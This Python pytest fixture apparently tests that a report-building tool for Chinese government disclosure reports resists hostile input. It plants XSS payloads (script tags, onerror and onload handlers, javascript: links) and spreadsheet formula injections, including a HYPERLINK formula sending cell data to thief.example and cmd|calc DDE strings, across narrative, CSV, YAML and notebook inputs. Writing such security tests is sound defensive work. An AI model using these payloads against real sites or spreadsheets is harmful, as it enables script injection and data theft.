"""A project in which everybody who can write something tries to do harm with it, and the build that comes of it."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import partial
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell

from ogi_report.figures import Figures

ROOT = Path(__file__).parents[2]

BURGLAR = "window.burgled = true"
SCRIPT = f"<script>{BURGLAR}</script>"
IMAGE = f"<img src=x onerror='{BURGLAR}'>"
FORMULA = '=HYPERLINK("https://thief.example/?"&A1,"点击")'
FOLDER = "telltale-home"
SECRET = "s3cr3t-t0ken-42"
USER = "telltale-user"

NARRATIVE = f"""# {SCRIPT}2024年政府信息公开工作年度报告

引言 {SCRIPT}{IMAGE}

## 一、总体情况

{SCRIPT} {IMAGE} <svg onload="{BURGLAR}"></svg> <style>body{{display:none}}</style> <iframe src="https://thief.example"></iframe>

[点这里](javascript:{BURGLAR}) [数据](data:text/html;base64,PHNjcmlwdD4=) [换行](java&#10;script:alert(1)) <javascript:alert(1)>

![图](https://thief.example/a.png) ![图]("onerror="{BURGLAR})

[引用]: javascript:alert(1)

[134 件](ogi:none"onmouseover="{BURGLAR}) 见[引用]和[网站](https://www.example.gov.cn/"onclick="{BURGLAR})。

| {SCRIPT} | {IMAGE} |
|---|---|
| {FORMULA} | 2 |

{FORMULA}

## 五、存在的主要问题及改进情况

收到申请 99 件，{SCRIPT}。主要问题是解读形式单一；下一步将丰富解读形式。
"""

OWN_CELLS = (
    f"from IPython.display import HTML, SVG, Markdown, display\n"
    f'display(HTML(\'<p>自己的表{SCRIPT}<b onclick="{BURGLAR}">粗</b><a href="javascript:{BURGLAR}">链接</a></p>\'))\n'
    f'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>{BURGLAR}</script>'
    f'<rect width="9" height="9" onload="{BURGLAR}"/></svg>\'))\n'
    f"display(Markdown('自己的话{SCRIPT}'))",
    "import warnings, pandas\nwarnings.warn_explicit('旧的写法', UserWarning, pandas.__file__, 1)",
)


@dataclass(frozen=True)
class Build:
    """A finished build and what was said on the way."""

    folder: Path
    status: int
    said: str

    @property
    def out(self) -> Path:
        return self.folder / "build"

    def files(self) -> Mapping[str, bytes]:
        found = {path.relative_to(self.out).as_posix(): path for path in self.out.rglob("*") if path.is_file()}
        return {name: path.read_bytes() for name, path in found.items() if not name.startswith(".")}

    def page(self, name: str) -> str:
        return (self.out / name).read_text(encoding="utf-8")


@pytest.fixture(scope="session")
def hostile(
    tmp_path_factory: pytest.TempPathFactory, write_data: Callable[..., Path], figures_of: Callable[..., Figures]
) -> Build:
    """`e` has all of the above; `good` stands beside it and is made as if nothing were."""
    folder = tmp_path_factory.mktemp("security") / FOLDER
    (folder / "params/2024").mkdir(parents=True)
    shutil.copytree(ROOT / "notebooks", folder / "notebooks", ignore=shutil.ignore_patterns(".*"))
    notebook = nbformat.read(ROOT / "notebooks/annual_report.ipynb", as_version=4)
    notebook.cells[-1:-1] = [new_code_cell(source, id=f"own-{n}") for n, source in enumerate(OWN_CELLS)]
    nbformat.write(notebook, folder / "notebooks/own.ipynb")
    quoted = IMAGE.replace('"', '""')
    (folder / "params/agencies.csv").write_text(
        "agency,name,short_names,level,parent,website,contact,address\n"
        f'evil,"示例{quoted}局","{SCRIPT}",department,,"https://x.example/{SCRIPT}","{SCRIPT}","{FORMULA.replace(chr(34), chr(34) * 2)}"\n'
        "good,示例局,,department,,,,\n"
        f'gone,"=cmd|{quoted}",,department,,,,\n',
        encoding="utf-8",
    )
    (folder / "params/2024/evil.yaml").write_text(
        f'agency: evil\nyear: 2024\nnotebook: own.ipynb\nindex_no: |-\n  {SCRIPT}\ndoc_no: "{FORMULA.replace(chr(34), chr(92) + chr(34))}"\n'
        f'waivers:\n  - rule: "{SCRIPT}"\n    reason: "{IMAGE}代市政府起草"\n    by: "{IMAGE}"\n    "on": 2025-01-10\n',
        encoding="utf-8",
    )
    (folder / "params/2024/good.yaml").write_text("agency: good\nyear: 2024\n", encoding="utf-8")
    local = {"applications": [("local.other", f"{IMAGE}行", "carried_out"), ("local.formula", FORMULA, "local.other")]}
    cells = {
        "applications.received.total": f"9{SCRIPT}",
        "applications.received.natural_person": FORMULA,
        "applications.carried_in.total": "@SUM(1+1)*cmd|' /C calc'!A0",
        "applications.carried_in.natural_person": "\t=1+1",
        "disclosure.licence.decisions": "-2+3+cmd|' /C calc'!A0",
        "remedies.review.total": 5,
    }
    data = write_data(folder / "data/2024/evil", figures_of(cells, local=local))
    (data / "narrative.md").write_text(NARRATIVE, encoding="utf-8")
    (data / f"{IMAGE.replace('/', '')}.txt").write_text("")
    write_data(folder / "data/2024/good", figures_of({}))
    (folder.parent / USER).mkdir()
    env = os.environ | {"PYTHONUTF8": "1", "OGI_TOKEN": SECRET, "AWS_SECRET_ACCESS_KEY": SECRET}
    env |= {"USER": USER, "LOGNAME": USER, "HOME": str(folder.parent / USER)}
    done = subprocess.run(
        [sys.executable, str(ROOT / "run_all.py"), "--jobs", "2"],
        cwd=folder,
        env=env,
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=300,
        check=False,
    )
    return Build(folder, done.returncode, done.stdout + done.stderr)


@pytest.fixture(scope="session")
def cli(program: Callable[..., subprocess.CompletedProcess[str]]) -> Callable[..., subprocess.CompletedProcess[str]]:
    """`cli("check", path, cwd=folder)`: the command line, within a minute."""
    return partial(program, timeout=60)
